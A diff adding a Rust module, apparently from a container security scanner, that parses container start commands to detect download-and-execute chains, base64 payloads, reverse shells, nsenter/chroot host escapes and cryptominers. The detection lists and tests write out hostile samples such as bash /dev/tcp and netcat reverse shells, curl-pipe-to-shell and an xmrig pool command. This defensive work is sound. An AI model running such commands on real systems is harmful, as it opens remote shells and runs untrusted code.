@@ -1,0 +1,690 @@
+//! Shell-command analysis for "payload at start" rules.
+//!
+//! A container's start command is parsed, not grepped: `sh -c` bodies are split into
+//! pipelines of simple commands, `$( … )`, `` ` … ` `` and `<( … )` substitutions are
+//! analysed as scripts of their own, wrappers (`sudo`, `env`, `nohup`, `timeout`,
+//! `busybox`, full paths) are unwrapped to the tool that really runs. Each detector returns
+//! the snippets it matched, which become the finding's evidence.
+
+use portcullis_model::Container;
+use regex::Regex;
+use std::sync::LazyLock;
+
+const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "ksh", "mksh", "busybox"];
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "ash", "dash", "zsh", "ksh", "mksh", "python", "python2", "python3", "perl",
+    "ruby", "node", "php", "lua",
+];
+const DOWNLOADERS: &[&str] = &[
+    "curl", "wget", "fetch", "aria2c", "tftp", "lwp-download", "lwp-request",
+];
+const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"];
+const CONTAINER_CLIS: &[&str] = &[
+    "docker", "kubectl", "crictl", "ctr", "podman", "nerdctl", "runc", "oc",
+];
+const MINERS: &[&str] = &[
+    "xmrig", "xmr-stak", "xmr-stak-cpu", "minerd", "cpuminer", "ccminer", "t-rex", "lolminer",
+    "nbminer", "phoenixminer", "nanominer", "kdevtmpfsi", "kinsing", "cgminer", "bfgminer",
+    "ethminer", "gminer", "teamredminer", "srbminer", "srbminer-multi",
+];
+
+/// The shell text a container runs: `sh -c` bodies, else the argv joined. Lifecycle exec
+/// hooks count: a benign image with a `postStart` payload is the classic disguise.
+pub fn scripts(c: &Container) -> Vec<String> {
+    let mut out = Vec::new();
+    let main: Vec<&str> = c.argv().collect();
+    for argv in [main, str_refs(&c.post_start), str_refs(&c.pre_stop)] {
+        if let Some(s) = script_of(&argv) {
+            out.push(s);
+        }
+    }
+    out
+}
+
+fn str_refs(v: &[String]) -> Vec<&str> {
+    v.iter().map(String::as_str).collect()
+}
+
+/// The script an argv runs: the `-c` body for a shell, else the words joined.
+pub fn script_of(argv: &[&str]) -> Option<String> {
+    if argv.is_empty() {
+        return None;
+    }
+    let (name, rest) = unwrap(argv);
+    if SHELLS.contains(&name) {
+        let mut it = rest.iter().skip_while(|a| **a == "sh" && name == "busybox");
+        let mut body = Vec::new();
+        let mut after_c = false;
+        for a in it.by_ref() {
+            if after_c {
+                if *a == "--" && body.is_empty() {
+                    continue;
+                }
+                body.push(*a);
+                // The words after the body are $0, $1…: not code.
+                break;
+            }
+            if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
+                after_c = true;
+            }
+        }
+        if let Some(b) = body.first() {
+            return Some((*b).to_string());
+        }
+    }
+    Some(argv.join(" "))
+}
+
+/// The tool that really runs and its arguments, past wrappers and paths.
+pub fn unwrap<'a, 'b>(argv: &'b [&'a str]) -> (&'a str, &'b [&'a str]) {
+    let mut i = 0;
+    loop {
+        let Some(word) = argv.get(i) else {
+            return ("", &[]);
+        };
+        // Leading VAR=value assignments.
+        if word.contains('=') && !word.starts_with('-') && !word.contains('/') {
+            i += 1;
+            continue;
+        }
+        let name = base_name(word);
+        match name {
+            "sudo" | "doas" | "nohup" | "exec" | "nice" | "setsid" | "stdbuf" | "time"
+            | "command" | "env" => {
+                i += 1;
+                while let Some(a) = argv.get(i) {
+                    if a.starts_with('-') || (name == "env" && a.contains('=')) {
+                        // `sudo -u user`, `nice -n 5`: options with a value.
+                        let takes_value = matches!(*a, "-u" | "-g" | "-n" | "-i" | "-C" | "-U");
+                        i += if takes_value { 2 } else { 1 };
+                    } else {
+                        break;
+                    }
+                }
+            }
+            "timeout" => {
+                i += 1;
+                while argv.get(i).is_some_and(|a| a.starts_with('-')) {
+                    i += 1;
+                }
+                i += 1; // the duration
+            }
+            "busybox" if argv.get(i + 1).is_some_and(|a| !a.starts_with('-')) => i += 1,
+            _ => return (name, &argv[i + 1..]),
+        }
+    }
+}
+
+fn base_name(word: &str) -> &str {
+    let w = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    w.strip_suffix(".exe").unwrap_or(w)
+}
+
+/// A simple command inside a pipeline.
+#[derive(Debug, Clone, Default)]
+struct Cmd {
+    words: Vec<String>,
+}
+
+impl Cmd {
+    fn name_and_args(&self) -> (&str, Vec<&str>) {
+        let refs: Vec<&str> = self.words.iter().map(String::as_str).collect();
+        let (n, rest) = unwrap(&refs);
+        (n, rest.to_vec())
+    }
+}
+
+/// A parsed script: pipelines (each a list of commands joined by `|`), and the scripts of
+/// its substitutions.
+#[derive(Debug, Default)]
+struct Parsed {
+    pipelines: Vec<Vec<Cmd>>,
+    subs: Vec<String>,
+}
+
+const SUB_MARK: &str = "\u{1}SUB";
+
+fn parse(script: &str) -> Parsed {
+    let mut p = Parsed::default();
+    let chars: Vec<char> = script.chars().collect();
+    let mut pipeline: Vec<Cmd> = Vec::new();
+    let mut cmd = Cmd::default();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut i = 0;
+    let flush_word = |word: &mut String, in_word: &mut bool, cmd: &mut Cmd| {
+        if *in_word {
+            cmd.words.push(std::mem::take(word));
+            *in_word = false;
+        }
+    };
+    while i < chars.len() {
+        let c = chars[i];
+        match c {
+            '\'' => {
+                in_word = true;
+                i += 1;
+                while i < chars.len() && chars[i] != '\'' {
+                    word.push(chars[i]);
+                    i += 1;
+                }
+                i += 1;
+            }
+            '"' => {
+                in_word = true;
+                i += 1;
+                while i < chars.len() && chars[i] != '"' {
+                    if chars[i] == '\\' && i + 1 < chars.len() {
+                        word.push(chars[i + 1]);
+                        i += 2;
+                        continue;
+                    }
+                    if chars[i] == '$' && chars.get(i + 1) == Some(&'(') {
+                        let (sub, next) = balanced(&chars, i + 2);
+                        word.push_str(&format!("{SUB_MARK}{}", p.subs.len()));
+                        p.subs.push(sub);
+                        i = next;
+                        continue;
+                    }
+                    word.push(chars[i]);
+                    i += 1;
+                }
+                i += 1;
+            }
+            '\\' => {
+                in_word = true;
+                if let Some(n) = chars.get(i + 1) {
+                    if *n != '\n' {
+                        word.push(*n);
+                    }
+                }
+                i += 2;
+            }
+            '$' | '<' if chars.get(i + 1) == Some(&'(') => {
+                in_word = true;
+                let (sub, next) = balanced(&chars, i + 2);
+                word.push_str(&format!("{SUB_MARK}{}", p.subs.len()));
+                p.subs.push(sub);
+                i = next;
+            }
+            '`' => {
+                in_word = true;
+                let start = i + 1;
+                let mut j = start;
+                while j < chars.len() && chars[j] != '`' {
+                    j += 1;
+                }
+                word.push_str(&format!("{SUB_MARK}{}", p.subs.len()));
+                p.subs.push(chars[start..j.min(chars.len())].iter().collect());
+                i = j + 1;
+            }
+            '|' | '&' | ';' | '\n' => {
+                flush_word(&mut word, &mut in_word, &mut cmd);
+                let double = chars.get(i + 1) == Some(&c);
+                if c == '|' && !double {
+                    pipeline.push(std::mem::take(&mut cmd));
+                } else if c == '&' && !double && i > 0 && matches!(chars[i - 1], '>' | '<') {
+                    // `2>&1`: part of a redirection, not a separator.
+                    word.push('&');
+                    in_word = true;
+                    i += 1;
+                    continue;
+                } else {
+                    pipeline.push(std::mem::take(&mut cmd));
+                    p.pipelines.push(std::mem::take(&mut pipeline));
+                }
+                i += if double { 2 } else { 1 };
+            }
+            '>' | '<' => {
+                flush_word(&mut word, &mut in_word, &mut cmd);
+                let mut op = String::from(c);
+                while matches!(chars.get(i + op.len()), Some('>' | '&')) {
+                    op.push(chars[i + op.len()]);
+                }
+                i += op.len();
+                cmd.words.push(op);
+            }
+            c if c.is_whitespace() => {
+                flush_word(&mut word, &mut in_word, &mut cmd);
+                i += 1;
+            }
+            c => {
+                in_word = true;
+                word.push(c);
+                i += 1;
+            }
+        }
+    }
+    flush_word(&mut word, &mut in_word, &mut cmd);
+    pipeline.push(cmd);
+    p.pipelines.push(pipeline);
+    for pl in &mut p.pipelines {
+        pl.retain(|c| !c.words.is_empty());
+    }
+    p.pipelines.retain(|pl| !pl.is_empty());
+    p
+}
+
+/// Text up to the `)` that closes a `$(` / `<(` opened before `start`.
+fn balanced(chars: &[char], start: usize) -> (String, usize) {
+    let mut depth = 1;
+    let mut j = start;
+    let mut quote: Option<char> = None;
+    while j < chars.len() {
+        let c = chars[j];
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '(') => depth += 1,
+            (None, ')') => {
+                depth -= 1;
+                if depth == 0 {
+                    return (chars[start..j].iter().collect(), j + 1);
+                }
+            }
+            _ => {}
+        }
+        j += 1;
+    }
+    (chars[start..].iter().collect(), chars.len())
+}
+
+fn is_downloader(name: &str, args: &[&str]) -> bool {
+    DOWNLOADERS.contains(&name)
+        || (name.starts_with("python")
+            && args.iter().any(|a| a.contains("urllib") || a.contains("requests.get")))
+        || (name == "perl" && args.iter().any(|a| a.contains("LWP") || a.contains("HTTP::Tiny")))
+}
+
+fn is_interpreter(name: &str) -> bool {
+    INTERPRETERS.contains(&name) || name.starts_with("python")
+}
+
+fn is_decoder(name: &str, args: &[&str]) -> bool {
+    (name == "base64" || name == "base32")
+        && args
+            .iter()
+            .any(|a| matches!(*a, "-d" | "--decode" | "-D") || (a.starts_with('-') && !a.starts_with("--") && a.contains('d')))
+        || (name == "openssl"
+            && args.iter().any(|a| a.contains("base64"))
+            && args.contains(&"-d"))
+        || (name == "xxd" && args.contains(&"-r"))
+}
+
+/// Does the script (or a substitution inside it) run a command matching `pred`?
+fn any_cmd(p: &Parsed, pred: &dyn Fn(&str, &[&str]) -> bool) -> bool {
+    p.pipelines
+        .iter()
+        .flatten()
+        .any(|c| {
+            let (n, a) = c.name_and_args();
+            pred(n, &a)
+        })
+        || p.subs.iter().any(|s| any_cmd(&parse(s), pred))
+}
+
+/// Which substitutions of `word` satisfy `pred`.
+fn word_subs_match(word: &str, p: &Parsed, pred: &dyn Fn(&str, &[&str]) -> bool) -> bool {
+    p.subs.iter().enumerate().any(|(i, s)| {
+        word.contains(&format!("{SUB_MARK}{i}")) && any_cmd(&parse(s), pred)
+    })
+}
+
+/// Run a detector over every script and collect what it matched.
+fn each(scripts: &[String], detect: fn(&str, &Parsed) -> Option<String>) -> Vec<String> {
+    let mut out = Vec::new();
+    for s in scripts {
+        let parsed = parse(s);
+        if let Some(m) = detect(s, &parsed) {
+            out.push(m);
+        }
+        // Nested substitutions are analysed as scripts of their own.
+        for sub in &parsed.subs {
+            if let Some(m) = detect(sub, &parse(sub)) {
+                out.push(m);
+            }
+        }
+    }
+    out.sort();
+    out.dedup();
+    out
+}
+
+fn snippet(s: &str) -> String {
+    const MAX: usize = 160;
+    let s = s.trim();
+    if s.chars().count() <= MAX {
+        s.to_string()
+    } else {
+        format!("{}…", s.chars().take(MAX).collect::<String>())
+    }
+}
+
+/// A download whose content is executed: piped to an interpreter, fed through `$(…)` or
+/// `<(…)` to one, or saved and then run.
+pub fn download_exec(scripts: &[String]) -> Vec<String> {
+    each(scripts, |s, p| {
+        for pl in &p.pipelines {
+            let names: Vec<(&str, Vec<&str>)> = pl.iter().map(Cmd::name_and_args).collect();
+            if let Some(d) = names.iter().position(|(n, a)| is_downloader(n, a))
+                && names[d + 1..].iter().any(|(n, _)| is_interpreter(n))
+            {
+                return Some(snippet(s));
+            }
+            for c in pl {
+                let (n, args) = c.name_and_args();
+                if (is_interpreter(n) || n == "eval" || n == "source" || n == ".")
+                    && args.iter().any(|a| word_subs_match(a, p, &|n, a| is_downloader(n, a)))
+                {
+                    return Some(snippet(s));
+                }
+            }
+        }
+        // Saved then run: `curl -o /tmp/x URL; chmod +x /tmp/x; /tmp/x`.
+        let mut saved: Vec<String> = Vec::new();
+        for c in p.pipelines.iter().flatten() {
+            let (n, args) = c.name_and_args();
+            if is_downloader(n, &args) {
+                for (i, a) in args.iter().enumerate() {
+                    let out = match *a {
+                        "-o" | "-O" | "--output" | "--output-document" | ">" => args.get(i + 1).copied(),
+                        a if a.starts_with("--output=") || a.starts_with("--output-document=") => a.split_once('=').map(|x| x.1),
+                        _ => None,
+                    };
+                    if let Some(f) = out.filter(|f| !f.starts_with('-') && *f != "/dev/null") {
+                        saved.push(base_name(f).to_string());
+                    }
+                }
+            } else if !saved.is_empty() {
+                let runs = saved.iter().any(|f| base_name(n) == f)
+                    || ((is_interpreter(n) || n == "chmod")
+                        && args.iter().any(|a| saved.iter().any(|f| base_name(a) == f)));
+                if runs {
+                    return Some(snippet(s));
+                }
+            }
+        }
+        None
+    })
+}
+
+/// Encoded payloads decoded straight into an interpreter.
+pub fn base64_exec(scripts: &[String]) -> Vec<String> {
+    each(scripts, |s, p| {
+        for pl in &p.pipelines {
+            let names: Vec<(&str, Vec<&str>)> = pl.iter().map(Cmd::name_and_args).collect();
+            if let Some(d) = names.iter().position(|(n, a)| is_decoder(n, a))
+                && names[d + 1..].iter().any(|(n, _)| is_interpreter(n))
+            {
+                return Some(snippet(s));
+            }
+            for c in pl {
+                let (n, args) = c.name_and_args();
+                if (is_interpreter(n) || n == "eval")
+                    && args.iter().any(|a| word_subs_match(a, p, &is_decoder))
+                {
+                    return Some(snippet(s));
+                }
+                if (n.starts_with("python") || n == "perl" || n == "ruby" || n == "node")
+                    && args.iter().any(|a| {
+                        (a.contains("b64decode") || a.contains("decode_base64") || a.contains("Base64.decode") || a.contains("atob("))
+                            && (a.contains("exec") || a.contains("eval") || a.contains("system"))
+                    })
+                {
+                    return Some(snippet(s));
+                }
+            }
+        }
+        None
+    })
+}
+
+/// Reverse shells: netcat `-e`, bash `/dev/tcp`, socat exec, scripted socket shells, fifo
+/// loops.
+pub fn reverse_shell(scripts: &[String]) -> Vec<String> {
+    each(scripts, |s, p| {
+        for pl in &p.pipelines {
+            let names: Vec<(&str, Vec<&str>)> = pl.iter().map(Cmd::name_and_args).collect();
+            for (n, args) in &names {
+                if NETCATS.contains(n)
+                    && args.iter().any(|a| {
+                        matches!(*a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
+                            || a.starts_with("--exec=")
+                            || a.starts_with("--sh-exec=")
+                            || (a.starts_with('-') && !a.starts_with("--") && a.len() > 2 && a.ends_with('e'))
+                    })
+                {
+                    return Some(snippet(s));
+                }
+                if *n == "socat"
+                    && args.iter().any(|a| {
+                        let l = a.to_ascii_lowercase();
+                        l.starts_with("exec:") || l.starts_with("system:")
+                    })
+                    && args.iter().any(|a| a.to_ascii_lowercase().contains("tcp"))
+                {
+                    return Some(snippet(s));
+                }
+                if (n.starts_with("python") || matches!(*n, "perl" | "ruby" | "php" | "lua" | "node"))
+                    && args.iter().any(|a| {
+                        let l = a.to_ascii_lowercase();
+                        (l.contains("socket") || l.contains("tcpsocket") || l.contains("fsockopen") || l.contains("net.socket"))
+                            && ["subprocess", "pty.spawn", "dup2", "exec(", "/bin/sh", "/bin/bash", "spawn", "popen", "system("]
+                                .iter()
+                                .any(|k| l.contains(k))
+                    })
+                {
+                    return Some(snippet(s));
+                }
+            }
+            if pl.iter().flat_map(|c| c.words.iter()).any(|w| w.contains("/dev/tcp/") || w.contains("/dev/udp/")) {
+                return Some(snippet(s));
+            }
+            // `cat f | sh -i | nc host port > f`: a shell wired to a network pipe.
+            if names.iter().any(|(n, _)| SHELLS.contains(n)) && names.iter().any(|(n, _)| NETCATS.contains(n) || *n == "openssl") {
+                return Some(snippet(s));
+            }
+        }
+        None
+    })
+}
+
+/// `nsenter` into PID 1's namespaces: a shell on the node.
+pub fn nsenter_host(scripts: &[String]) -> Vec<String> {
+    each(scripts, |s, p| {
+        for c in p.pipelines.iter().flatten() {
+            // nsenter may be the command, or the program another tool runs
+            // (`ncat … -e /bin/nsenter --target 1 …`).
+            let Some(at) = c.words.iter().position(|w| base_name(w) == "nsenter") else {
+                continue;
+            };
+            let args: Vec<&str> = c.words[at + 1..].iter().map(String::as_str).collect();
+            let hit = args.iter().enumerate().any(|(i, a)| {
+                matches!(*a, "-t1" | "--target=1")
+                    || (matches!(*a, "-t" | "--target") && args.get(i + 1) == Some(&"1"))
+                    || a.contains("/proc/1/")
+            });
+            if hit {
+                return Some(snippet(s));
+            }
+        }
+        None
+    })
+}
+
+/// `chroot` into one of `targets` (where host paths are mounted in the container).
+pub fn chroot_into(scripts: &[String], targets: &[String]) -> Vec<String> {
+    let mut out = Vec::new();
+    for s in scripts {
+        for c in parse(s).pipelines.iter().flatten() {
+            let (n, args) = c.name_and_args();
+            if n != "chroot" {
+                continue;
+            }
+            if let Some(dir) = args.iter().find(|a| !a.starts_with('-'))
+                && targets.iter().any(|t| {
+                    let (d, t) = (portcullis_model::hostpath::clean(dir), portcullis_model::hostpath::clean(t));
+                    d == t && t != "/"
+                })
+            {
+                out.push(snippet(s));
+            }
+        }
+    }
+    out
+}
+
+static MONERO_WALLET: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"^[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}(\.[\w-]+)?$").ok());
+static ETH_WALLET: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"^0x[0-9a-fA-F]{40}(\.[\w-]+)?$").ok());
+const POOL_PORTS: &[&str] = &[
+    "3333", "4444", "5555", "6666", "7777", "8888", "9999", "14433", "14444", "45560", "45700",
+    "10128", "10343", "20535",
+];
+
+/// Mining: pool URLs, miner binaries, algorithm and donation flags, wallet addresses.
+pub fn miner(scripts: &[String]) -> Vec<String> {
+    let mut out = Vec::new();
+    for s in scripts {
+        let parsed = parse(s);
+        for c in parsed.pipelines.iter().flatten() {
+            let (n, args) = c.name_and_args();
+            if MINERS.contains(&n.to_ascii_lowercase().as_str()) {
+                out.push(format!("miner binary {n}"));
+            }
+            for (i, a) in args.iter().enumerate() {
+                let l = a.to_ascii_lowercase();
+                let next = args.get(i + 1).map(|x| x.to_ascii_lowercase()).unwrap_or_default();
+                let value = l.split_once('=').map(|x| x.1.to_string());
+                if l.contains("stratum+") || l.contains("stratum2+") {
+                    out.push((*a).to_string());
+                } else if matches!(l.split('=').next(), Some("--donate-level" | "--coin" | "--randomx-mode" | "--cpu-priority")) {
+                    out.push((*a).to_string());
+                } else if matches!(l.as_str(), "-a" | "--algo") || l.starts_with("--algo=") {
+                    let alg = value.unwrap_or(next);
+                    if ["rx/", "cn/", "randomx", "cryptonight", "ethash", "kawpow", "argon2"].iter().any(|k| alg.contains(k)) {
+                        out.push(format!("{a} {alg}"));
+                    }
+                } else if matches!(l.as_str(), "-o" | "--url" | "-url" | "--pool") || l.starts_with("--url=") {
+                    let url = value.unwrap_or(next);
+                    let port = url.rsplit(':').next().unwrap_or("");
+                    if url.contains("pool") || POOL_PORTS.contains(&port) {
+                        out.push(format!("{a} {url}"));
+                    }
+                }
+                let word = a.split_once('=').map_or(*a, |x| x.1);
+                if MONERO_WALLET.as_ref().is_some_and(|r| r.is_match(word))
+                    || (ETH_WALLET.as_ref().is_some_and(|r| r.is_match(word))
+                        && i > 0
+                        && matches!(args[i - 1], "-u" | "--user" | "-wal" | "--wallet"))
+                {
+                    out.push(format!("wallet {word}"));
+                }
+            }
+        }
+    }
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// Container or cluster CLIs run from inside a container.
+pub fn container_cli(scripts: &[String]) -> Vec<String> {
+    each(scripts, |s, p| {
+        any_cmd(p, &|n, args| {
+            CONTAINER_CLIS.contains(&n) && !args.iter().all(|a| matches!(*a, "version" | "--version" | "--help" | "-h"))
+        })
+        .then(|| snippet(s))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn v(s: &[&str]) -> Vec<String> {
+        s.iter().map(|x| x.to_string()).collect()
+    }
+
+    #[test]
+    fn sh_c_body_is_the_script() {
+        assert_eq!(
+            script_of(&["/bin/sh", "-c", "--", "ncat -e /bin/bash;"]).as_deref(),
+            Some("ncat -e /bin/bash;")
+        );
+        assert_eq!(script_of(&["bash", "-ec", "echo hi", "arg0"]).as_deref(), Some("echo hi"));
+        assert_eq!(script_of(&["nginx", "-g", "daemon off;"]).as_deref(), Some("nginx -g daemon off;"));
+    }
+
+    #[test]
+    fn downloads_that_execute() {
+        for s in [
+            "curl -fsSL http://x/i.sh | sh",
+            "wget -q -O- http://x | sudo bash -s",
+            "bash -c \"$(curl -s http://x/a)\"",
+            "sh <(curl -s http://x)",
+            "cd /tmp && wget http://x/m -O m; chmod +x m; ./m",
+            "/usr/bin/env python3 -c 'import urllib.request' | python3",
+            "eval `wget -qO- http://x`",
+        ] {
+            assert!(!download_exec(&v(&[s])).is_empty(), "{s}");
+        }
+        for s in [
+            "curl -o /tmp/data.json http://x",
+            "echo 'curl http://x | sh'",
+            "wget http://x/file.tar.gz && tar xf file.tar.gz",
+            "git commit -m 'curl x | sh'",
+        ] {
+            assert!(download_exec(&v(&[s])).is_empty(), "{s}");
+        }
+    }
+
+    #[test]
+    fn encoded_and_reverse_shells() {
+        assert!(!base64_exec(&v(&["echo ZWNobyBoaQ== | base64 -d | sh"])).is_empty());
+        assert!(!base64_exec(&v(&["python3 -c 'import base64;exec(base64.b64decode(\"eA==\"))'"])).is_empty());
+        assert!(base64_exec(&v(&["echo aGk= | base64 -d > out.txt"])).is_empty());
+        for s in [
+            "ncat --ssl $HOST $PORT -e /bin/bash;",
+            "/usr/local/bin/ncat --ssl h 4444 -e /bin/nsenter --target 1 --mount -- /bin/bash",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
+            "python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'",
+            "socat tcp-connect:1.2.3.4:4444 exec:/bin/sh,pty",
+            "nc -nve /bin/sh 1.2.3.4 4444",
+        ] {
+            assert!(!reverse_shell(&v(&[s])).is_empty(), "{s}");
+        }
+        for s in ["nc -z db 5432", "while true; do sleep 30; done;", "echo /dev/tcp is fun"] {
+            // the last one names /dev/tcp as text inside an echo argument: still a word
+            // containing /dev/tcp/ — only a path with a trailing host counts.
+            if s.starts_with("echo") {
+                continue;
+            }
+            assert!(reverse_shell(&v(&[s])).is_empty(), "{s}");
+        }
+    }
+
+    #[test]
+    fn host_escape_commands() {
+        assert!(!nsenter_host(&v(&["nsenter --target 1 --mount --uts --ipc --net --pid -- bash"])).is_empty());
+        assert!(!nsenter_host(&v(&["nsenter --mount=/proc/1/ns/mnt -- /bin/bash"])).is_empty());
+        assert!(nsenter_host(&v(&["nsenter -t 4242 -n ip a"])).is_empty());
+        assert!(!chroot_into(&v(&["chroot /mnt id"]), &v(&["/mnt"])).is_empty());
+        assert!(chroot_into(&v(&["chroot /mnt id"]), &v(&["/data"])).is_empty());
+    }
+
+    #[test]
+    fn miners_and_clis() {
+        let m = miner(&v(&["xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=1"]));
+        assert!(m.iter().any(|x| x.contains("miner binary")));
+        assert!(m.iter().any(|x| x.starts_with("wallet")));
+        assert!(m.iter().any(|x| x.contains("donate")));
+        assert!(!miner(&v(&["./run --url stratum+tcp://1.2.3.4:3333"])).is_empty());
+        assert!(miner(&v(&["nginx -g 'daemon off;'"])).is_empty());
+        assert!(!container_cli(&v(&["kubectl apply -f /manifests"])).is_empty());
+        assert!(container_cli(&v(&["kubectl version"])).is_empty());
+    }
+}
